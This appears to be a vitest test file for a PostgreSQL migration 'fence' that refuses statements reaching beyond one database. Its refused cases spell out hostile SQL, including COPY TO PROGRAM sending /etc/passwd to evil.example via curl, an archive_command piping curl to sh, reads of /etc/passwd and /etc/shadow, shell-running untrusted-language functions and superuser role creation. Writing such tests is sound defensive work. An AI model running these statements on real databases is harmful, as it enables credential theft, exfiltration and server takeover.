import { describe, expect, it } from 'vitest';
import {
  DEFAULT_ALLOWED_EXTENSIONS, DEFAULT_FENCE_ALLOWANCES, FENCE_KINDS, FenceError, assertFenceAllows, findFenceViolations,
  type FenceAllowances,
} from './sql-guard';

const fence = (sql: string, allowances: FenceAllowances = DEFAULT_FENCE_ALLOWANCES) => findFenceViolations(sql, allowances);
const kindsOf = async (sql: string, allowances?: FenceAllowances) => (await fence(sql, allowances)).map((v) => v.kind);

/** Each refused kind, in several spellings: [kind, sql]. */
const REFUSED: [string, string][] = [
  ['database', 'CREATE DATABASE shop_copy;'],
  ['database', 'create database "Shop" template shop;'],
  ['database', 'DROP DATABASE shop WITH (FORCE);'],
  ['database', 'DROP DATABASE IF EXISTS shop;'],
  ['database', "ALTER DATABASE shop SET search_path = 'evil';"],
  ['database', 'ALTER DATABASE shop RENAME TO gone;'],
  ['database', 'ALTER DATABASE shop OWNER TO mallory;'],
  ['database', 'ALTER DATABASE shop CONNECTION LIMIT 0;'],
  ['database', 'ALTER DATABASE shop RESET ALL;'],
  ['role', "ALTER ROLE CURRENT_USER PASSWORD 'owned';"],
  ['role', "alter user current_user with password 'owned';"],
  ['role', 'CREATE ROLE mallory SUPERUSER LOGIN;'],
  ['role', "CREATE USER mallory PASSWORD 'x';"],
  ['role', 'CREATE GROUP auditors;'],
  ['role', 'DROP ROLE IF EXISTS app;'],
  ['role', 'DROP USER app;'],
  ['role', 'ALTER ROLE app SET search_path = evil;'],
  ['role', 'ALTER ROLE ALL IN DATABASE shop SET work_mem = 1;'],
  ['role', 'ALTER ROLE app RENAME TO app2;'],
  ['role', 'REASSIGN OWNED BY app TO postgres;'],
  ['role', 'DROP OWNED BY app;'],
  ['role_membership', 'GRANT pg_read_server_files TO app;'],
  ['role_membership', 'GRANT postgres TO CURRENT_USER WITH ADMIN OPTION;'],
  ['role_membership', 'REVOKE admin FROM bob;'],
  ['role_membership', 'ALTER GROUP admins ADD USER bob;'],
  ['alter_system', "ALTER SYSTEM SET archive_command = 'curl evil | sh';"],
  ['alter_system', 'alter system reset all;'],
  ['alter_system', 'GRANT SET ON PARAMETER log_statement TO app;'],
  ['copy_file', "COPY orders TO '/tmp/orders.csv';"],
  ['copy_file', "COPY orders FROM '/etc/passwd';"],
  ['copy_file', "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd evil.example';"],
  ['copy_file', "copy orders from program 'cat /etc/shadow';"],
  ['load', "LOAD 'auto_explain';"],
  ['load', "load '/tmp/evil.so';"],
  ['set_role', 'SET ROLE postgres;'],
  ['set_role', 'SET LOCAL ROLE postgres;'],
  ['set_role', "SET SESSION AUTHORIZATION 'postgres';"],
  ['set_role', 'SET SESSION AUTHORIZATION DEFAULT;'],
  ['set_role', 'SET role = postgres;'],
  ['set_role', 'RESET ROLE;'],
  ['set_role', 'RESET SESSION AUTHORIZATION;'],
  ['set_role', "SELECT set_config('role', 'postgres', false);"],
  ['set_role', "SELECT pg_catalog.set_config('SESSION_AUTHORIZATION', 'postgres', true);"],
  ['set_role', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS $$ SELECT 1 $$;'],
  ['extension', 'CREATE EXTENSION dblink;'],
  ['extension', 'CREATE EXTENSION IF NOT EXISTS postgres_fdw;'],
  ['extension', 'create extension "adminpack";'],
  ['extension', 'CREATE EXTENSION plpython3u;'],
  ['extension', 'CREATE LANGUAGE plperlu;'],
  ['untrusted_language', "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(args[0]).read() $$;"],
  ['untrusted_language', "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C;"],
  ['untrusted_language', "CREATE FUNCTION f() RETURNS int AS 'int4in' LANGUAGE internal;"],
  ['untrusted_language', 'CREATE PROCEDURE p() LANGUAGE plperlu AS $$ system("id") $$;'],
  ['untrusted_language', "DO LANGUAGE plpython3u $$ import os $$;"],
  ['untrusted_language', 'DO $$ print(1) $$ LANGUAGE PLPERLU;'],
  ['server_files', "SELECT pg_read_file('/etc/passwd');"],
  ['server_files', "SELECT PG_READ_FILE('/etc/passwd');"],
  ['server_files', `SELECT "pg_read_file"('/etc/passwd');`],
  ['server_files', "SELECT pg_catalog.pg_read_file('postgresql.conf');"],
  ['server_files', `SELECT "pg_catalog"."pg_read_binary_file"('global/pg_control');`],
  ['server_files', "SELECT * FROM pg_ls_dir('.');"],
  ['server_files', "SELECT pg_stat_file('postgresql.conf');"],
  ['server_files', "SELECT lo_import('/etc/passwd');"],
  ['server_files', "SELECT lo_export(16384, '/tmp/x');"],
  ['dblink', "SELECT dblink_exec('dbname=postgres', 'DROP DATABASE shop');"],
  ['dblink', "SELECT * FROM dblink('dbname=other', 'SELECT 1') AS t(x int);"],
  ['dblink', "SELECT public.dblink_connect('c', 'host=evil.example');"],
  ['dblink', "SELECT DBLINK_CONNECT_U('c', 'dbname=postgres');"],
  ['tablespace', "CREATE TABLESPACE fast LOCATION '/mnt/fast';"],
  ['tablespace', 'DROP TABLESPACE IF EXISTS fast;'],
  ['tablespace', 'ALTER TABLESPACE fast SET (random_page_cost = 1);'],
  ['foreign_server', "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');"],
  ['foreign_server', 'CREATE USER MAPPING FOR CURRENT_USER SERVER other;'],
  ['foreign_server', 'IMPORT FOREIGN SCHEMA public FROM SERVER other INTO stolen;'],
  ['foreign_server', "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p;"],
  ['server_control', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity;'],
  ['server_control', 'SELECT pg_reload_conf();'],
  ['server_control', "SELECT pg_create_logical_replication_slot('s', 'pgoutput');"],
];

describe('the SQL fence refuses statements that reach beyond one database', () => {
  it.each(REFUSED)('%s: %s', async (kind, sql) => {
    const violations = await fence(sql);
    expect(violations.map((v) => v.kind)).toContain(kind);
    const v = violations.find((x) => x.kind === kind)!;
    expect(v.line).toBe(1);
    expect(v.column).toBeGreaterThanOrEqual(1);
    expect(v.statement).toBe(sql.replace(/;$/, '').split('\n')[0]);
    expect(v.reason).toMatch(/\w{4,}.*\./);
  });

  it('every refused kind is one an admin can allow, and each is tested above', () => {
    const ids = FENCE_KINDS.map((k) => k.id);
    expect(new Set(REFUSED.map(([k]) => k))).toEqual(new Set(ids));
    for (const k of FENCE_KINDS) expect(k.label.length).toBeGreaterThan(5);
  });

  it('says why in words, as the issue asks', async () => {
    const [v] = await fence("ALTER SYSTEM SET work_mem = '1GB';");
    expect(v.reason).toBe("ALTER SYSTEM changes the whole server's configuration; Cutover only runs migrations that stay inside their database.");
  });
});

describe('calls are found anywhere in the tree', () => {
  const nested: [string, string][] = [
    ['a subquery', "SELECT 1 WHERE EXISTS (SELECT 1 FROM (SELECT pg_read_file('x') AS f) s);"],
    ['a CTE', "WITH f AS (SELECT pg_ls_dir('.') AS d) SELECT * FROM f;"],
    ['a column default', "CREATE TABLE t (a text DEFAULT pg_catalog.pg_read_file('/etc/hostname'));"],
    ['an ALTER COLUMN default', "ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/etc/passwd');"],
    ['a CHECK constraint', "ALTER TABLE t ADD CONSTRAINT c CHECK (length(pg_read_file('x')) > 0);"],
    ['a view definition', "CREATE VIEW v AS SELECT * FROM dblink('dbname=postgres', 'SELECT rolpassword FROM pg_authid') AS t(p text);"],
    ['a materialized view', "CREATE MATERIALIZED VIEW mv AS SELECT pg_read_binary_file('global/pg_control') AS b;"],
    ['an UPDATE', "UPDATE t SET a = pg_read_file('/etc/passwd');"],
    ['an INSERT ... SELECT', "INSERT INTO t SELECT pg_read_file(x) FROM pg_ls_dir('.') x;"],
    ['a generated column', "CREATE TABLE g (a text GENERATED ALWAYS AS (pg_read_file('x')) STORED);"],
    ['a COPY query to STDOUT', "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT;"],
    ['a CREATE TABLE AS', "CREATE TABLE stolen AS SELECT pg_read_file('/etc/passwd') AS p;"],
    ['a CALL argument', "CALL p(pg_read_file('x'));"],
    ['a PREPARE', "PREPARE s AS SELECT pg_read_file($1);"],
    ['an index expression', "CREATE INDEX i ON t ((pg_read_file(a)));"],
    ['a SQL-standard function body', 'CREATE FUNCTION f() RETURNS text RETURN dblink_exec(\'x\');'],
    ['a BEGIN ATOMIC body', "CREATE PROCEDURE p() BEGIN ATOMIC SELECT lo_export(1, '/tmp/x'); END;"],
    ['an operator made of it', 'CREATE OPERATOR ### (function = pg_read_file, rightarg = text);'],
    ['an aggregate made of it', 'CREATE AGGREGATE a(text) (sfunc = pg_catalog.pg_read_file, stype = text);'],
    ['a cast made of it', 'CREATE CAST (text AS int) WITH FUNCTION pg_catalog.pg_read_file(text);'],
    ['a trigger running it', 'CREATE TRIGGER t AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION dblink_exec();'],
    ['a GRANT of it', 'GRANT EXECUTE ON FUNCTION pg_read_file(text) TO PUBLIC;'],
  ];
  it.each(nested)('in %s', async (_where, sql) => {
    expect((await kindsOf(sql)).some((k) => k === 'server_files' || k === 'dblink')).toBe(true);
  });

  it('in the body of a LANGUAGE sql function, with the line in the file', async () => {
    const sql = [
      'CREATE TABLE ok (id int);',
      'CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $fn$',
      '  SELECT 1;',
      "  SELECT pg_read_file('/etc/passwd');",
      '$fn$;',
    ].join('\n');
    const [v] = await fence(sql);
    expect(v).toMatchObject({ kind: 'server_files', line: 4, column: 10, statement: 'CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $fn$' });
  });

  it('in a single-quoted SQL body with doubled quotes', async () => {
    const [v] = await fence("CREATE FUNCTION f() RETURNS text AS 'SELECT pg_read_file(''/etc/passwd'')' LANGUAGE sql;");
    expect(v.kind).toBe('server_files');
  });

  it('in PL/pgSQL bodies: PERFORM, assignments, conditions, queries and constant EXECUTE strings', async () => {
    const sql = [
      'CREATE OR REPLACE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$',
      'DECLARE x text;',
      'BEGIN',
      "  PERFORM pg_ls_dir('.');", // line 4
      "  x := pg_read_file('/etc/passwd');", // line 5
      "  IF lo_import('/etc/passwd') > 0 THEN", // line 6
      '    INSERT INTO t SELECT * FROM dblink($q$dbname=postgres$q$, $q$SELECT 1$q$) AS r(a int);', // line 7
      '  END IF;',
      "  EXECUTE 'ALTER SYSTEM SET work_mem = ''1GB''';", // line 9
      "  EXECUTE format('SELECT %I FROM t', x);", // built at run time: not visible here
      "  RETURN 'CREATE DATABASE not_a_statement';", // a string, not SQL
      'END $$;',
    ].join('\n');
    const violations = await fence(sql);
    expect(violations.map((v) => [v.kind, v.line])).toEqual([
      ['server_files', 4], ['server_files', 5], ['server_files', 6], ['dblink', 7], ['alter_system', 9],
    ]);
    expect(violations[0].column).toBe(3);
  });

  it('in DO blocks, nested ones included', async () => {
    const sql = [
      'DO $do$',
      'DECLARE r record;',
      'BEGIN',
      "  EXECUTE 'DO $x$ BEGIN PERFORM pg_read_file(''/etc/passwd''); END $x$';",
      "  FOR r IN EXECUTE 'SELECT * FROM pg_ls_dir(''.'')' LOOP NULL; END LOOP;",
      'END',
      '$do$;',
    ].join('\n');
    expect((await fence(sql)).map((v) => [v.kind, v.line])).toEqual([['server_files', 4], ['server_files', 5]]);
  });

  it('in a PL/pgSQL body PostgreSQL would refuse to compile, by its tokens and the SQL in its strings', async () => {
    const sql = [
      'DO $do$',
      'BEGIN',
      "  FOR r IN EXECUTE 'SELECT * FROM pg_ls_dir(''.'')' LOOP NULL; END LOOP;", // r is not declared
      "  PERFORM lo_export(1, '/tmp/x');",
      'END $do$;',
    ].join('\n');
    expect((await fence(sql)).map((v) => v.kind)).toEqual(['server_files', 'server_files']);
  });

  it('in a body that does not parse, by its tokens', async () => {
    const violations = await fence("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELEC pg_read_file('x') $$;");
    expect(violations.map((v) => v.kind)).toEqual(['server_files']);
  });

  it('reports each statement of a file with its own line and first line', async () => {
    const sql = '-- CreateTable\nCREATE TABLE a (id int);\n\n/* sneaky */ ALTER SYSTEM SET x = 1;\nSELECT 1; LOAD \'x\';\n';
    const violations = await fence(sql);
    expect(violations).toMatchObject([
      { kind: 'alter_system', line: 4, column: 14, statement: 'ALTER SYSTEM SET x = 1' },
      { kind: 'load', line: 5, column: 11, statement: "LOAD 'x'" },
    ]);
  });

  it('counts columns in characters, not bytes', async () => {
    const [v] = await fence("SELECT 'é', pg_read_file('x');");
    expect(v.column).toBe(13);
  });
});

describe('real migrations pass', () => {
  const PASSING: [string, string][] = [
    ['Prisma-style DDL', [
      '-- CreateEnum',
      `CREATE TYPE "Role" AS ENUM ('USER', 'ADMIN');`,
      '',
      '-- CreateTable',
      `CREATE TABLE "User" ("id" TEXT NOT NULL, "email" TEXT NOT NULL, "role" "Role" NOT NULL DEFAULT 'USER', "createdAt" TIMESTAMP(3) NOT NULL DEFAULT CURRENT_TIMESTAMP, CONSTRAINT "User_pkey" PRIMARY KEY ("id"));`,
      '',
      '-- CreateIndex',
      `CREATE UNIQUE INDEX "User_email_key" ON "User"("email");`,
      '',
      '-- AddForeignKey',
      `ALTER TABLE "Post" ADD CONSTRAINT "Post_authorId_fkey" FOREIGN KEY ("authorId") REFERENCES "User"("id") ON DELETE RESTRICT ON UPDATE CASCADE;`,
    ].join('\n')],
    ['trusted extensions', 'CREATE EXTENSION IF NOT EXISTS pgcrypto;\nCREATE EXTENSION IF NOT EXISTS pg_trgm;\nCREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA public;\nCREATE EXTENSION citext;\nCREATE EXTENSION IF NOT EXISTS "plpgsql";'],
    ['a DO block', [
      'DO $$',
      'BEGIN',
      `  IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'status') THEN`,
      `    CREATE TYPE status AS ENUM ('a', 'b');`,
      '  END IF;',
      `  EXECUTE 'ALTER TABLE t ADD COLUMN IF NOT EXISTS role text';`,
      'EXCEPTION WHEN duplicate_object THEN NULL;',
      'END $$;',
    ].join('\n')],
    ['a PL/pgSQL trigger function', [
      'CREATE OR REPLACE FUNCTION set_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$',
      'BEGIN',
      '  NEW.updated_at := now();',
      '  RETURN NEW;',
      'END $$;',
      'CREATE TRIGGER t_updated BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION set_updated_at();',
    ].join('\n')],
    ['a SQL function', 'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT a + b $$;'],
    ['COPY FROM STDIN and TO STDOUT', 'COPY t (a, b) FROM STDIN;\nCOPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv);'],
    ['privileges on tables are not role membership', 'GRANT SELECT ON TABLE orders TO reporting;\nGRANT USAGE ON SCHEMA app TO reporting;\nREVOKE ALL ON orders FROM PUBLIC;\nALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting;\nGRANT CONNECT ON DATABASE shop TO reporting;'],
    ['ownership inside the database', 'ALTER TABLE orders OWNER TO app;\nCREATE SCHEMA IF NOT EXISTS app AUTHORIZATION app;'],
    ['ordinary settings', "SET statement_timeout = '5min';\nSET LOCAL lock_timeout = '3s';\nSELECT set_config('search_path', 'app, public', true);\nRESET search_path;"],
    ['a column named like a refused function', 'ALTER TABLE t ADD COLUMN dblink_id int;\nCREATE TABLE pg_read_file_log (pg_read_file text);\nSELECT "role" FROM users WHERE role = \'admin\';'],
    ['a string that mentions refused SQL', "INSERT INTO notes (body) VALUES ('DROP DATABASE shop; SELECT pg_read_file(''x'')');\nCOMMENT ON TABLE t IS 'ALTER SYSTEM is refused';"],
    ['transactions and concurrent indexes', 'BEGIN;\nCREATE INDEX CONCURRENTLY i ON t (a);\nCOMMIT;'],
    ['dropping things inside the database', 'DROP TABLE IF EXISTS t CASCADE;\nDROP EXTENSION IF EXISTS dblink;\nDROP SCHEMA old CASCADE;'],
    ['an empty file', ''],
    ['comments only', '-- nothing to do\n/* really */\n'],
  ];
  it.each(PASSING)('%s', async (_name, sql) => {
    expect(await fence(sql)).toEqual([]);
  });
});

describe('allowances', () => {
  it('a kind allowed for the target goes through, others are still refused', async () => {
    const sql = 'CREATE ROLE reporting;\nGRANT reporting TO app;\nALTER SYSTEM SET x = 1;';
    expect(await kindsOf(sql)).toEqual(['role', 'role_membership', 'alter_system']);
    expect(await kindsOf(sql, { allowedKinds: ['role', 'role_membership'], allowedExtensions: [] })).toEqual(['alter_system']);
  });

  it('the extension allow list decides CREATE EXTENSION; the extension kind lets any through', async () => {
    expect(await kindsOf('CREATE EXTENSION postgis;')).toEqual(['extension']);
    expect(await kindsOf('CREATE EXTENSION postgis;', { allowedKinds: [], allowedExtensions: [...DEFAULT_ALLOWED_EXTENSIONS, 'postgis'] })).toEqual([]);
    expect(await kindsOf('CREATE EXTENSION pgcrypto;', { allowedKinds: [], allowedExtensions: ['postgis'] })).toEqual(['extension']);
    expect(await kindsOf('CREATE EXTENSION dblink;', { allowedKinds: ['extension'], allowedExtensions: [] })).toEqual([]);
  });

  it('the default allow list is the set PostgreSQL trusts, without untrusted ones', () => {
    expect(DEFAULT_ALLOWED_EXTENSIONS).toEqual(expect.arrayContaining(['pgcrypto', 'pg_trgm', 'citext', 'uuid-ossp', 'hstore', 'btree_gin', 'btree_gist']));
    for (const untrusted of ['dblink', 'postgres_fdw', 'file_fdw', 'adminpack', 'plperlu', 'plpython3u']) expect(DEFAULT_ALLOWED_EXTENSIONS).not.toContain(untrusted);
  });

  it('a syntax error is never allowed through', async () => {
    const violations = await fence('SELEC 1;', { allowedKinds: FENCE_KINDS.map((k) => k.id), allowedExtensions: [] });
    expect(violations).toMatchObject([{ kind: 'syntax', line: 1, column: 1 }]);
  });
});

describe('assertFenceAllows', () => {
  it('throws FenceError naming the file, line and reason', async () => {
    const err = await assertFenceAllows('20260101000000_x/migration.sql', 'SELECT 1;\nLOAD \'x\';', DEFAULT_FENCE_ALLOWANCES).catch((e) => e);
    expect(err).toBeInstanceOf(FenceError);
    expect(err.file).toBe('20260101000000_x/migration.sql');
    expect(err.violations).toHaveLength(1);
    expect(err.message).toMatch(/^20260101000000_x\/migration\.sql was refused: line 2, column 1: LOAD loads a shared library/);
  });

  it('leaves a file that does not parse to the planner (which refuses it with its own line and column)', async () => {
    await expect(assertFenceAllows('m.sql', 'SELEC 1;', DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
    await expect(assertFenceAllows('m.sql', "SELEC 1;\nLOAD 'x';", DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
  });

  it('resolves for SQL the fence allows', async () => {
    await expect(assertFenceAllows('m.sql', 'CREATE TABLE t (id int);', DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
  });

  it('checks a 10,000-statement file quickly', async () => {
    const sql = Array.from({ length: 10_000 }, (_, i) => `ALTER TABLE t${i % 50} ADD COLUMN c${i} int DEFAULT ${i};`).join('\n');
    const t0 = performance.now();
    expect(await fence(sql)).toEqual([]);
    expect(performance.now() - t0).toBeLessThan(5000);
  });
});
